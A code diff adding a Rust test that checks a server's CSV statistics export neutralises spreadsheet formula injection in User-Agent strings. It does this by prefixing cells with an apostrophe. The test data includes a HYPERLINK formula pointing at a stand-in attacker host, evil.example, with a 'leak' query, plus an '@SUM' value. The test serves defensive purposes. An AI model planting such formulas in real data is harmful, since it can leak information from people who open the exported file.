@@ -287,6 +287,44 @@ async fn every_query_reports_exactly_the_requests_sent() {
     }
 }
 
+/// A User-Agent is whatever a stranger sends: in the CSV export a spreadsheet must read it as
+/// text, not as a formula (issue 31).
+#[tokio::test]
+async fn a_formula_in_a_user_agent_is_exported_as_text() {
+    let db = TestDb::new(crate::support::Backend::Sqlite).await;
+    let p = Pharos::start_with(&db, stats_on(&db), ManualClock::new(NOW)).await;
+    let ua = r#"=HYPERLINK("https://evil.example/?leak","open me")"#;
+    let s = send(&p, "/.well-known/openid-federation", ua, None).await;
+    assert_eq!(s, 200);
+    assert_eq!(
+        send(&p, "/.well-known/openid-federation", "@SUM(1)", None).await,
+        200
+    );
+    assert_eq!(flush(&p).await, 2);
+    let r = p
+        .client
+        .get(p.url("/api/v1/admin/stats/export"))
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(r.status(), 200);
+    let csv = r.text().await.unwrap();
+    assert!(
+        csv.contains(r#","'=HYPERLINK(""https://evil.example/?leak"",""open me"")","#),
+        "{csv}"
+    );
+    assert!(csv.contains(",'@SUM(1),"), "{csv}");
+    // No cell of any line starts a formula.
+    for line in csv.lines() {
+        for cell in line.split(',') {
+            let cell = cell.trim_start_matches('"');
+            assert!(!cell.starts_with(['=', '+', '@']), "{line}");
+        }
+    }
+    // The same rule in the top list's CSV of the command line is covered by `csv_field`.
+    p.stop().await;
+}
+
 #[tokio::test]
 async fn bad_parameters_are_refused_and_named() {
     let db = TestDb::new(crate::support::Backend::Sqlite).await;
